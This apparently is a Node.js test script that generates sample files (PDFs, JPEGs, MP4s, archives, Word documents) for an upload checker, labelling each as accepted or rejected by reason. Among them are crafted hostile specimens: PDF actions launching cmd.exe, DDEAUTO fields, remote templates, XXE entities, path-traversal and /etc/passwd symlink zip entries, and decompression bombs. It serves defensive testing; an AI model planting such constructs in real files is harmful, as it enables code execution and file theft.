// Files as people's own programs and telephones make them, and at least one for every reason of inspect.def:
//   node tests/samples/causes.mjs SAMPLES DIR
// SAMPLES is what tests/samples/make made. Writes DIR/* and DIR/causes.tsv: slot, file, and what becomes of it:
// kept as it is ("accepted"), kept in a copy ("copy"), or the name of the reason.
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { deflateSync, gzipSync } from 'node:zlib';
import { be, box, bytes, chunk, crc, docxParts, EXE, jpgWith, le, listed, ole, pdf, pdfStream, png, rar4, rar5, samsung, segment, word, zip } from './formats.mjs';

const [samples, dir] = process.argv.slice(2).map((d) => (d.startsWith('/') ? d : `${process.cwd()}/${d}`));
mkdirSync(dir, { recursive: true });
process.chdir(dir);
const run = (tool, ...args) => execFileSync(tool, args, { stdio: ['ignore', 'pipe', 'ignore'], maxBuffer: 64 << 20 });
const have = (tool) => { try { return !!execFileSync('sh', ['-c', `command -v ${tool}`]); } catch { return false; } };
const slotOf = (file) => ({ pdf: 'plan', jpg: 'app_screenshot', jpeg: 'app_screenshot', png: 'app_screenshot', mp4: 'video' })[file.split('.').pop()] ?? 'test_report';
const rows = [];
/** content: bytes, or nothing when the file is there already. */
function file(name, verdict, content) {
  if (content) writeFileSync(name, content);
  rows.push(`${slotOf(name)}\t${name}\t${verdict}`);
}
const accepted = (name, content) => file(name, 'accepted', content);
const mended = (name, content) => file(name, 'copy', content);

const PDF = readFileSync(`${samples}/申请函.pdf`);
const DOCX = readFileSync(`${samples}/测试报告.docx`);
run('convert', '-size', '320x240', 'plasma:fractal', '-quality', '85', 'still.jpg');
run('convert', '-size', '64x48', 'plasma:fractal', '-quality', '60', 'small.jpg');
run('ffmpeg', '-nostdin', '-v', 'error', '-y', '-f', 'lavfi', '-i', 'testsrc=size=160x120:rate=10:duration=2', '-pix_fmt', 'yuv420p', 'film.mp4');
run('ffmpeg', '-nostdin', '-v', 'error', '-y', '-i', 'film.mp4', '-c', 'copy', '-movflags', '+frag_keyframe+empty_moov', 'pieces.mp4');
const [JPG, SMALL, MP4, PIECES] = ['still.jpg', 'small.jpg', 'film.mp4', 'pieces.mp4'].map((f) => readFileSync(f));

// ---- PDF: what every viewer opens ----------------------------------------------------------------

const locked = { rc40: ['40', '--'], rc128: ['128', '--use-aes=n', '--print=none', '--'], aes128: ['128', '--use-aes=y', '--modify=none', '--'], aes256: ['256', '--print=none', '--extract=n', '--'], plain: ['128', '--cleartext-metadata', '--use-aes=y', '--'] };
for (const [name, options] of Object.entries(locked)) {
  const allow = /40|rc128/.test(name) ? ['--allow-weak-crypto'] : [];
  run('qpdf', ...allow, '--encrypt', '', 'owner', ...options, `${samples}/申请函.pdf`, `permissions-${name}.pdf`);
  accepted(`permissions-${name}.pdf`);
}
run('qpdf', '--encrypt', '', 'owner', '256', '--', '--object-streams=generate', `${samples}/申请函.pdf`, 'permissions-packed.pdf');
accepted('permissions-packed.pdf');
for (const [name, lead] of Object.entries({
  bom: [0xef, 0xbb, 0xbf], line: '\r\n', http: 'HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nContent-Length: 77\r\n\r\n',
  mime: 'Content-Type: application/pdf\r\nContent-Transfer-Encoding: binary\r\n\r\n', printer: '\x1b%-12345X@PJL JOB NAME="a"\r\n@PJL ENTER LANGUAGE=PDF\r\n',
})) mended(`lead-${name}.pdf`, bytes(lead, PDF));
for (const [name, tail] of Object.entries({ ctrlz: [0x1a], ctrlzs: [0x0d, 0x0a, 0x1a, 0x1a], nuls: Buffer.alloc(5000), boundary: '\r\n------WebKitFormBoundary7MA4YWxk--\r\n', printer: '\x1b%-12345X' })) mended(`tail-${name}.pdf`, bytes(PDF, tail));
const moved = (by) => bytes(PDF.toString('latin1').replace(/startxref\n(\d+)/, (all, n) => `startxref\n${Number(n) + by}`));
mended('startxref-before.pdf', moved(-1));
for (const by of [2, 40]) mended(`startxref${by}.pdf`, moved(by));
mended('startxref-0.pdf', bytes(PDF.toString('latin1').replace(/startxref\n\d+/, 'startxref\n0')));
mended('xref-from-1.pdf', bytes(pdf().toString('latin1').replace('xref\n0 4', 'xref\n1 4')));
mended('no-eof.pdf', bytes(PDF.toString('latin1').replace(/%%EOF\s*$/, '')));
mended('half-eof.pdf', bytes(PDF.toString('latin1').replace(/%EOF\s*$/, '')));
// Tables packed in a stream, too; and bytes before the header that its table counts, or does not.
run('qpdf', '--object-streams=generate', `${samples}/申请函.pdf`, 'packed.pdf');
const PACKED = readFileSync('packed.pdf');
mended('packed-startxref.pdf', bytes(PACKED.toString('latin1').replace(/startxref\n(\d+)/, (all, n) => `startxref\n${Number(n) + 7}`)));
mended('packed-lead.pdf', bytes('\r\n', PACKED));
mended('packed-no-eof.pdf', bytes(PACKED.toString('latin1').replace(/%%EOF\s*$/, '')));
for (const [name, original] of [['lead-counted', pdf()], ['lead-counted-off', bytes(pdf().toString('latin1').replace(/startxref\n\d+/, 'startxref\n9'))]])
  mended(`${name}.pdf`, bytes('\xef\xbb\xbf', original.toString('latin1').replace(/^(\d{10})( 00000 n )/gm, (all, n, rest) => String(Number(n) + 3).padStart(10, '0') + rest)));
mended('lead-and-off.pdf', bytes('\n', moved(3)));
mended('unended-object.pdf', bytes(pdf({ objects: [pdfStream(bytes('x'))] }).toString('latin1').replace(/endobj\nxref/, 'xref')));
mended('size-too-small.pdf', bytes(pdf().toString('latin1').replace('/Size 4', '/Size 3')));
// A web address in the text is fine; so is a place in the document that is shown first, and a form without scripts.
const page = (more) => pdf().toString('latin1').replace('/MediaBox', `${more} /MediaBox`);
const rewritten = (name, text, options = []) => {
  writeFileSync('broken.pdf', text, 'latin1');
  try { run('qpdf', ...options, 'broken.pdf', name); } catch { /* it warns: the table was wrong */ }
};
const catalog = (more) => pdf().toString('latin1').replace('/Pages 2 0 R', `/Pages 2 0 R ${more}`);
rewritten('link.pdf', page('/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.nhsa.gov.cn/) >> >>]'));
rewritten('opens-at-page.pdf', catalog('/OpenAction [3 0 R /Fit]'));
rewritten('opens-by-action.pdf', catalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'), ['--object-streams=generate']);
rewritten('form.pdf', catalog('/AcroForm << /Fields [] /XFA [(template) (<a/>)] >>'));
['link.pdf', 'opens-at-page.pdf', 'opens-by-action.pdf', 'form.pdf'].forEach((name) => accepted(name));

// ---- PDF: what acts, what is hidden ----------------------------------------------------------------

rewritten('rendition.pdf', catalog('/OpenAction << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>'));
file('rendition.pdf', 'PDF_SCRIPT');
const form = '<xdp:xdp xmlns:xdp="x"><template><event><script contentType="application/x-javascript">app.alert(1)</script></event></template></xdp:xdp>';
file('xfa.pdf', 'PDF_SCRIPT', pdf({ objects: [pdfStream(deflateSync(bytes(form)), '/Filter /FlateDecode '), '<< /XFA 4 0 R >>'] }));
file('xfa-parts.pdf', 'PDF_SCRIPT', pdf({ objects: [pdfStream(deflateSync(bytes(form)), '/Filter [/FlateDecode] '), '<< /XFA [(template) 4 0 R] >>'] }));
file('script-link.pdf', 'PDF_SCRIPT', pdf({ objects: ['<< /S /URI /URI (JavaScript:alert(1)) >>'] }));
const actions = { launch: '<< /S /Launch /F (cmd.exe) >>', import: '<< /S /ImportData /F (a.fdf) >>', submit: '<< /S /SubmitForm /F (http://a/) >>', embedded: '<< /S /GoToE /T << /R /C /N (a) >> >>', remote: '<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>' };
for (const [name, action] of Object.entries(actions)) file(`action-${name}.pdf`, 'PDF_ACTION', pdf({ objects: [action] }));
rewritten('opens-web.pdf', catalog('/OpenAction << /S /URI /URI (http://a/) >>'));
rewritten('opens-web-next.pdf', catalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (http://a/) >>] >>'));
rewritten('page-opens-web.pdf', page('/AA << /O << /S /URI /URI (http://a/) >> >>'), ['--object-streams=generate']);
file('opens-web-far.pdf', 'PDF_ACTION', pdf({ objects: ['<< /OpenAction 5 0 R >>', '<< /S /URI /URI (http://a/) >>'] }));
['opens-web.pdf', 'opens-web-next.pdf', 'page-opens-web.pdf'].forEach((name) => file(name, 'PDF_ACTION'));
file('fetched-stream.pdf', 'PDF_ACTION', pdf({ objects: [pdfStream(bytes('x'), '/F (http://a/) ')] }));
file('attached.pdf', 'PDF_FILES', pdf({ objects: [pdfStream(EXE.subarray(64)), '<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>'] }));
file('attached-annotation.pdf', 'PDF_FILES', pdf({ objects: ['<< /Subtype /FileAttachment /FS (a) >>'] }));
run('qpdf', '--encrypt', '', 'owner', '256', '--', 'attached.pdf', '--preserve-unreferenced', 'attached-locked.pdf');
file('attached-locked.pdf', 'PDF_FILES');
file('password.pdf', 'PDF_PASSWORD', readFileSync(`${samples}/bad/加密的申请函.pdf`));
file('unfolds.pdf', 'UNFOLDS', pdf({ objects: [pdfStream(deflateSync(Buffer.alloc(100 << 20, 32)), '/Filter /FlateDecode ')] }));
file('unfolds-twice.pdf', 'UNFOLDS', pdf({ objects: [pdfStream(deflateSync(deflateSync(Buffer.alloc(200 << 20, 32))), '/Filter [/FlateDecode /FlateDecode] ')] }));
file('picture-bomb.pdf', 'UNFOLDS', pdf({ objects: [pdfStream(deflateSync(bytes('x')), '/Subtype /Image /Width 30000 /Height 30000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode ')] }));
file('no-page.pdf', 'PDF_EMPTY', bytes(pdf().toString('latin1').replace('[3 0 R] /Count 1', '[     ] /Count 0')));
file('cut.pdf', 'BROKEN', PDF.subarray(0, PDF.length >> 1));
file('lead-program.pdf', 'FOREIGN', bytes(EXE, PDF));
file('lead-words.pdf', 'FOREIGN', bytes('hello, ', PDF));
file('tail-words.pdf', 'TAIL', bytes(PDF, 'and so on'));
file('deep.pdf', 'UNCHECKED', pdf({ objects: [bytes('['.repeat(300), ']'.repeat(300))] }));

// ---- pictures --------------------------------------------------------------------------------------

const xmp = (text) => segment(0xe1, bytes(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description ${text}</rdf:RDF></x:xmpmeta>`));
const google = (length) => xmp(`GCamera:MotionPhoto="1"><Container:Directory><rdf:Seq><rdf:li><Container:Item Item:Mime="image/jpeg" Item:Semantic="Primary" Item:Length="0"/></rdf:li><rdf:li><Container:Item Item:Mime="video/mp4" Item:Semantic="MotionPhoto" Item:Length="${length}"/></rdf:li></rdf:Seq></Container:Directory></rdf:Description>`);
mended('motion-google.jpg', bytes(jpgWith(JPG, google(MP4.length)), MP4));
mended('motion-xiaomi.jpg', bytes(jpgWith(JPG, xmp(`GCamera:MicroVideo="1" GCamera:MicroVideoVersion="1" GCamera:MicroVideoOffset="${MP4.length}"/>`)), MP4));
mended('motion-oppo.jpg', bytes(jpgWith(JPG, google(MP4.length), xmp('OpCamera:MotionPhotoOwner="oplus"/>')), MP4));
mended('motion-notes-behind.jpg', bytes(jpgWith(JPG, google(MP4.length)), MP4, '{"note":1}'));
const sef = (kind, name, data) => {
  const block = bytes(le(0, 2), le(kind, 2), le(name.length, 4), name, data);
  return bytes(block, 'SEFH', le(107, 4), le(1, 4), le(0, 2), le(kind, 2), le(block.length, 4), le(block.length, 4), le(24, 4), 'SEFT');
};
mended('motion-samsung.jpg', bytes(JPG, sef(0xa30, 'MotionPhoto_Data', MP4)));
mended('motion-huawei.jpg', bytes(JPG, MP4, 'v2_f30              ', '1000:1000           ', `LIVE_${MP4.length + 40}`.padEnd(20)));
mended('motion-ultra-hdr.jpg', bytes(listed(jpgWith(JPG, google(MP4.length)), SMALL), MP4));
mended('camera-tail.jpg', bytes(JPG, 'QDIOBS', Buffer.alloc(300, 7)));
mended('samsung-too-little.jpg', samsung(JPG, 'Image_UTC_Data1400000000000', 3));
accepted('brighter.jpg', listed(JPG, SMALL, 200));
accepted('samsung-note.jpg', samsung(JPG, '\0\0\x01\n\x0e\0\0\0Image_UTC_Data1451234567890'));
accepted('jpg-named.png', JPG);
accepted('png-named.jpg', png());
file('motion-nothing-said.jpg', 'LIVE_PHOTO', bytes(JPG, MP4));
file('motion-somewhere.jpg', 'LIVE_PHOTO', samsung(JPG, bytes('mpv2', MP4)));
file('motion-is-zip.jpg', 'FOREIGN', (() => { const z = zip([{ name: 'a', data: 'x' }]); return bytes(jpgWith(JPG, google(z.length)), z); })());
file('pdf-named.jpg', 'KIND', PDF);
const known = {
  'webp.jpg': ['IS_WEBP', bytes('RIFF', le(30, 4), 'WEBPVP8 ', Buffer.alloc(22))], 'heic.jpg': ['IS_HEIC', bytes(box('ftyp', bytes('heic\0\0\0\0mif1heic')), box('meta', Buffer.alloc(40)))],
  'gif.png': ['IS_GIF', bytes('GIF89a', Buffer.alloc(20), ';')], 'bmp.jpg': ['IS_BMP', bytes('BM', le(70, 4), Buffer.alloc(64))], 'tiff.jpg': ['IS_TIFF', bytes('II*\0', le(8, 4), Buffer.alloc(30))],
  'page.doc': ['IS_TEXT', bytes('<html><body>报告</body></html>')], 'rich.doc': ['IS_TEXT', bytes('{\\rtf1\\ansi text}')], 'seven.zip': ['IS_ARCHIVE', bytes('7z\xbc\xaf\x27\x1c\0\x04', Buffer.alloc(60))],
  'program.zip': ['IS_PROGRAM', EXE], 'sfx.rar': ['IS_SFX', bytes(EXE, rar5([{ name: 'a.txt', data: 'x' }]))], 'flash.mp4': ['IS_FILM', bytes('FLV\x01\x05', Buffer.alloc(40))],
};
for (const [name, [reason, content]] of Object.entries(known)) file(name, reason, content);
file('wide.png', 'PIXELS', bytes(png().subarray(0, 8), chunk('IHDR', bytes(be(30000, 4), be(30000, 4), [1, 0, 0, 0, 0])), chunk('IDAT', deflateSync(bytes('x'))), chunk('IEND', bytes())));

// ---- video -----------------------------------------------------------------------------------------

/** A box somewhere inside, its content changed where it stands. */
const changed = (film, type, change) => {
  const at = film.indexOf(type) + 4;
  const copy = Buffer.from(film);
  change(copy.subarray(at));
  return copy;
};
for (const [name, value] of [['zero', 0], ['unknown', 0xffffffff]]) {
  accepted(`mvhd-${name}.mp4`, changed(MP4, 'mvhd', (b) => b.writeUInt32BE(value, 16)));
  accepted(`pieces-${name}.mp4`, changed(PIECES, 'mvhd', (b) => b.writeUInt32BE(value, 16)));
}
accepted('nuls.mp4', bytes(MP4, Buffer.alloc(4000)));
for (const type of ['sefd', 'gps0', 'junk']) accepted(`${type}.mp4`, bytes(MP4, box(type, Buffer.alloc(40, 3))));
accepted('thum.mp4', bytes(MP4, box('thum', SMALL)));
accepted('udta-thumb.mp4', bytes(MP4, box('udta', box('thmb', bytes(Buffer.alloc(4), SMALL)))));
accepted('maker.mp4', bytes(MP4, box('inst', Buffer.alloc(99, 5))));
file('maker-pdf.mp4', 'FOREIGN', bytes(MP4, box('inst', pdf())));
accepted('uuid-thumb.mp4', bytes(MP4, box('uuid', bytes(Buffer.alloc(16, 7), SMALL))));
file('hidden-pdf.mp4', 'FOREIGN', bytes(MP4, box('uuid', bytes(Buffer.alloc(16, 7), pdf()))));
file('long.mp4', 'DURATION', changed(MP4, 'mdhd', (b) => b.writeUInt32BE(1, 12)));
run('ffmpeg', '-nostdin', '-v', 'error', '-y', '-f', 'lavfi', '-i', 'sine=duration=1', '-brand', 'mp42', 'sound.mp4');
file('sound.mp4', 'NO_VIDEO');
file('brand.mp4', 'BRAND', bytes(box('ftyp', bytes('zzzz', le(0, 4), 'zzzz')), MP4.subarray(MP4.readUInt32BE(0))));

// ---- archives --------------------------------------------------------------------------------------

const XLSX = zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'xl/workbook.xml', data: '<workbook/>' }, { name: 'xl/media/image1.jpg', data: JPG }]);
const text = [{ name: 'a.txt', data: 'text '.repeat(99) }];
accepted('comment.zip', zip(text, { comment: '测试'.repeat(700) }));
accepted('docx-named.zip', DOCX);
accepted('zip-named.docx', zip(text));
accepted('zip-named.rar', zip(text));
accepted('rar-named.zip', rar5(text));
accepted('entries.zip', zip(Array.from({ length: 300 }, (_, i) => ({ name: `截图/${i}.txt`, data: `${i}` }))));
for (const [name, data] of Object.entries({ 'a.docx': DOCX, 'a.xlsx': XLSX, 'a.zip': zip(text), 'a.rar': rar5(text), 'b.rar': rar4(text) })) {
  accepted(`stores-${name}.rar`, rar5([{ name, data }]));
  accepted(`old-stores-${name}.rar`, rar4([{ name, data }]));
  for (const method of [0, 8]) accepted(`holds-${name}-${method}.zip`, zip([{ name, data, method }]));
}
// What helps to mend a broken archive repeats its bytes.
accepted('recovery.rar', rar5([{ name: 'a.rar', data: rar5(text) }], { service: bytes(rar5(text), Buffer.alloc(400, 7)), kind: 'RR' }));
writeFileSync('a.txt', 'text '.repeat(2000));
writeFileSync('b.txt', 'other '.repeat(2000));
for (const [name, options] of Object.entries({ bzip2: ['-mm=BZip2'], lzma: ['-mm=LZMA'], deflate64: ['-mm=Deflate64'] })) {
  rmSync(`seven-${name}.zip`, { force: true });
  run('7z', 'a', '-tzip', ...options, `seven-${name}.zip`, 'a.txt', 'b.txt');
  accepted(`seven-${name}.zip`);
}
rmSync('inner.7z', { force: true });
run('7z', 'a', 'inner.7z', 'a.txt', 'b.txt');
run('bsdtar', '-czf', 'inner.tgz', 'a.txt', 'b.txt');
run('zip', '-q', 'inner.zip', 'a.txt', 'b.txt');
for (const inner of ['inner.7z', 'inner.tgz', 'inner.zip'])
  for (const level of ['-0', '-9']) {
    const name = `${inner}${level}.zip`;
    rmSync(name, { force: true });
    run('zip', '-q', level, name, inner);
    accepted(name);
  }
writeFileSync('a.log.gz', gzipSync('log\n'.repeat(99)));
rmSync('gz.zip', { force: true });
run('zip', '-q', 'gz.zip', 'a.log.gz');
accepted('gz.zip');
if (have('jar')) (run('jar', 'cfM', 'jar.zip', 'a.txt', 'b.txt'), accepted('jar.zip'));
rmSync('password.zip', { force: true });
run('7z', 'a', '-tzip', '-psecret', 'password.zip', 'a.txt');
file('password.zip', 'ARCHIVE_PASSWORD');
file('password.rar', 'ARCHIVE_PASSWORD', rar4(text, { main: 0x80 }));
rmSync('locked.7z', { force: true });
run('7z', 'a', '-psecret', '-mhe=on', 'locked.7z', 'a.txt');
file('locked-inside.zip', 'ARCHIVE_PASSWORD', zip([{ name: 'locked.7z', data: readFileSync('locked.7z') }]));
const LNK = bytes('L\0\0\0\x01\x14\x02\0', Buffer.alloc(70));
for (const [name, data] of Object.entries({ 'a.exe': EXE, 'a.bat': 'echo', '报告.pdf.lnk': LNK, 'a.js': 'x', '说明.txt': EXE, 'a.vbs.': 'x' })) {
  file(`program-${name}.zip`, 'ENTRY_PROGRAM', zip([...text, { name, data }]));
  file(`program-${name}.rar`, 'ENTRY_PROGRAM', rar5([...text, { name, data }]));
  file(`program-inside-${name}.zip`, 'ENTRY_PROGRAM', zip([{ name: 'in.zip', data: zip([{ name, data }]) }]));
}
writeFileSync('说明.txt', EXE);
rmSync('inner-program.7z', { force: true });
run('7z', 'a', 'inner-program.7z', '说明.txt');
file('program-in-7z.zip', 'ENTRY_PROGRAM', zip([{ name: 'inner.7z', data: readFileSync('inner-program.7z') }]));
rmSync('program-bzip2.zip', { force: true });
run('7z', 'a', '-tzip', '-mm=BZip2', 'program-bzip2.zip', '说明.txt');
file('program-bzip2.zip', 'ENTRY_PROGRAM');
file('four.rar', 'ENTRY_PROGRAM', readFileSync(new URL('rar/four.rar', import.meta.url))); // a shortcut is in it
file('method.zip', 'METHOD', zip([{ name: 'a', data: 'x', method: 6 }]));
file('nested.zip', 'NESTED', zip([{ name: 'a.zip', data: zip([{ name: 'b.zip', data: zip([{ name: 'c.zip', data: zip(text) }]) }]) }]));
file('expanded.zip', 'EXPANDED', zip([{ name: 'a', data: Buffer.alloc(200 << 20) }]));
file('many.zip', 'ENTRIES', zip(Array.from({ length: 10001 }, (_, i) => ({ name: `${i}`, method: 0 }))));
file('up.zip', 'ENTRY_NAME', zip([{ name: '../a', data: 'x' }]));
file('link.zip', 'ENTRY_LINK', zip([{ name: 'a', data: '/etc/passwd', attributes: 0xa1ff0000, madeBy: 0x0314 }]));
file('first.zip', 'PDF_FIRST', zip([{ name: 'a.pdf', data: pdf(), method: 0 }]));
file('hidden-rar.zip', 'FOREIGN', zip([{ name: 'a.txt', data: bytes('x', rar5(text)), method: 0 }]));
file('hidden-zip.rar', 'FOREIGN', rar5([{ name: 'a.txt', data: zip(text) }]));

// ---- documents -------------------------------------------------------------------------------------

const stream = (name, data) => ({ name, data: bytes(data, Buffer.alloc(Math.max(0, 4096 - bytes(data).length))) });
const shapes = zip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: '_rels/.rels', data: '<r/>' }, { name: 'drs/shapexml.xml', data: '<x/>' }, { name: 'drs/downrev.xml', data: '<x/>' }]);
accepted('shapes.doc', ole([word(), stream('1Table', shapes), stream('Data', bytes(shapes, JPG.subarray(0, 3000)))]));
accepted('sheet.doc', ole([word(), stream('Package', XLSX)]));
accepted('embedded-pdf.doc', ole([word(), stream('CONTENTS', pdf())]));
accepted('doc-named.docx', ole([word()]));
accepted('docx-named.doc', DOCX);
accepted('word-95-chinese.doc', ole([{ name: 'WordDocument', data: bytes(le(0xa699, 2), Buffer.alloc(4094)) }]));
file('sheet-only.doc', 'IS_EXCEL', ole([stream('Workbook', '')]));
file('slides-only.doc', 'IS_SLIDES', ole([stream('PowerPoint Document', '')]));
file('xlsx-named.docx', 'IS_EXCEL', XLSX);
const packed = (name, data) => stream('\x01Ole10Native', bytes(le(data.length + 60, 4), le(2, 2), `${name}\0C:\\a\\${name}\0`, le(0, 2), le(3, 2), le(name.length + 1, 4), `${name}\0`, le(data.length, 4), data));
file('object-program.doc', 'DOC_OBJECT', ole([word(), packed('a.exe', EXE)]));
file('object-script.doc', 'DOC_OBJECT', ole([word(), packed('a.vbs', bytes('x'))]));
file('locked.docx', 'DOC_PASSWORD', ole([stream('EncryptedPackage', ''), stream('EncryptionInfo', '')]));
file('hidden-pdf.doc', 'FOREIGN', ole([word(), stream('Hidden', pdf())]));
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relations = (...rels) => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels.map(([type, target, mode = 'External'], i) => `<Relationship Id="rId${i}" Type="${R}/${type}" Target="${target}" TargetMode="${mode}"/>`).join('')}</Relationships>`;
const body = (inner) => `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inner}</w:p></w:body></w:document>`;
const docx = (parts) => zip([...docxParts().filter(({ name }) => !(name in parts)), ...Object.entries(parts).map(([name, data]) => ({ name, data }))]);
const field = (...runs) => body(`<w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.map((t) => `<w:r><w:instrText xml:space="preserve">${t}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`);
accepted('links.docx', docx({ 'word/_rels/document.xml.rels': relations(['hyperlink', 'https://www.nhsa.gov.cn/'], ['image', 'file:///C:\\a.png']), 'word/document.xml': field(' HYPERLINK "http://ladder.example/DDE" ') }));
accepted('own-template.docx', docx({ 'word/_rels/settings.xml.rels': relations(['attachedTemplate', 'file:///C:\\Users\\a\\Templates\\Normal.dotm']) }));
accepted('sheet.docx', docx({ 'word/embeddings/Microsoft_Excel.xlsx': XLSX, 'word/embeddings/oleObject1.bin': ole([stream('Workbook', '')]) }));
for (const target of ['http://a/x.dotm', '\\\\a\\b.dotm', 'file://a/b.dotm', 'file:///\\\\a\\b.dotm']) file(`template-${crc(bytes(target))}.docx`, 'DOC_REMOTE', docx({ 'word/_rels/settings.xml.rels': relations(['attachedTemplate', target]) }));
file('remote-object.docx', 'DOC_REMOTE', docx({ 'word/_rels/document.xml.rels': relations(['oleObject', 'mhtml:http://a/x.html!x-usc:http://a/x.html']) }));
file('dde.docx', 'DOC_DDE', docx({ 'word/document.xml': field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ') }));
file('dde-in-pieces.docx', 'DOC_DDE', docx({ 'word/document.xml': field(' D', 'DE', 'AUTO cmd ') }));
file('dde-simple.docx', 'DOC_DDE', docx({ 'word/document.xml': body('<w:fldSimple w:instr=" DDE a b"/>') }));
file('chunk.docx', 'DOC_CHUNK', docx({ 'word/document.xml': body('<w:altChunk r:id="rId1"/>') }));
file('entity.docx', 'DOC_ENTITY', docx({ 'word/document.xml': `<!DOCTYPE a [<!ENTITY b SYSTEM "http://a/">]>${body('')}` }));
file('entity-wide.docx', 'DOC_ENTITY', docx({ 'customXml/item1.xml': bytes([0xff, 0xfe], Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "http://a/">]><a/>', 'utf16le')) }));
file('object.docx', 'DOC_OBJECT', docx({ 'word/embeddings/oleObject1.bin': ole([packed('a.exe', EXE)]) }));
file('program.docx', 'DOC_OBJECT', docx({ 'word/embeddings/oleObject1.bin': ole([stream('CONTENTS', EXE)]) }));
file('macro.docx', 'MACRO', docx({ 'word/vbaProject.bin': 'x' }));
file('macro.doc', 'MACRO', ole([word()], { storages: ['Macros'] }));

writeFileSync('causes.tsv', `${rows.join('\n')}\n`);
